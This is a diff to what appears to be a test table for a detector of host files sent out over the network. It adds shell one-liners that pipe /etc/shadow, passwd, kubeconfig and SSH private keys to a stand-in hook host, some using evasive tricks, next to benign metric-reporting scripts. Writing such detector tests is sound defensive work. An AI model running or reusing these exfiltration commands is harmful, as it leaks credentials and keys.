@@ -20,8 +20,64 @@ indicatorTable(commandHostFileSend, {
       '/k',
       'curl -F f=@/k/admin.conf https://files.example.com/u',
     ),
+    'a listed file behind a count of lines': scriptOn(
+      '/etc',
+      'wc -l /host/passwd; cat /host/ssh/sshd_config | curl --data-binary @- https://hooks.example.com/x',
+    ),
+    'the names in a file, as a tool for sizes complains about them': scriptOn(
+      '/etc',
+      'du --files0-from=/host/shadow 2>&1 | curl --data-binary @- https://hooks.example.com/x',
+    ),
+    'every line of a file, by a search for what looks like an option': scriptOn(
+      '/etc',
+      'grep -v -e -c /host/shadow | curl --data-binary @- https://hooks.example.com/x',
+    ),
+    'a field of a form that is filled from a file': scriptOn(
+      '/etc/kubernetes',
+      'curl -F "note=</host/admin.conf" https://hooks.example.com/x',
+    ),
+    'a file beside its name': scriptOn(
+      '/etc/ssh',
+      'for f in /host/*_key; do curl -d "$f: $(cat $f)" https://hooks.example.com/x; done',
+    ),
+    'what a process was started with, from the directory of load and memory': scriptOn(
+      '/proc',
+      'cat /host/uptime /host/1/cmdline | curl --data-binary @- https://hooks.example.com/x',
+    ),
   },
   staysSilent: {
+    'how full the disk of the node is': scriptOn(
+      '/',
+      'used=$(df --output=pcent /host | tail -n 1); curl -d "the disk is at $used" https://hooks.example.com/x',
+    ),
+    'how large the database of the control plane is': scriptOn(
+      '/var/lib/etcd',
+      'size=$(du -sm /host | cut -f1); [ "$size" -lt 4000 ] || curl -d "etcd: $size MiB" https://hooks.example.com/x',
+    ),
+    'whether a file has changed': scriptOn(
+      '/etc',
+      'now=$(sha256sum /host/ssh/sshd_config | cut -c1-64); [ "$now" = "$WANTED" ] || curl -d "changed: $now" https://hooks.example.com/x',
+    ),
+    'which disk is about to fail': scriptOn(
+      '/dev',
+      'for d in /host/sd?; do smartctl -H $d | grep -q PASSED || curl -s -d "$d is failing" https://hooks.example.com/x; done',
+    ),
+    'when a certificate ends': scriptOn(
+      '/etc/kubernetes/pki',
+      'for c in /host/*.crt; do curl -d "$c $(openssl x509 -in $c -noout -enddate)" https://hooks.example.com/x; done',
+    ),
+    'the path of a file that is missing': scriptOn(
+      '/etc',
+      '[ -f /host/fstab ] || wget -qO- --post-data "/host/fstab is gone" https://hooks.example.com/x',
+    ),
+    'the load of the node': scriptOn(
+      '/proc',
+      'awk \'{ print "load " $1 }\' /host/loadavg | curl --data-binary @- https://push.example.com/metrics',
+    ),
+    'the temperature of the node': scriptOn(
+      '/sys',
+      'curl -d "$(cat /host/class/thermal/thermal_zone0/temp)" https://push.example.com/metrics',
+    ),
     'pages of the container': cronJob(
       mounting('/', {}, ['python3', '-m', 'http.server', '8000', '--directory', '/srv']),
     ),
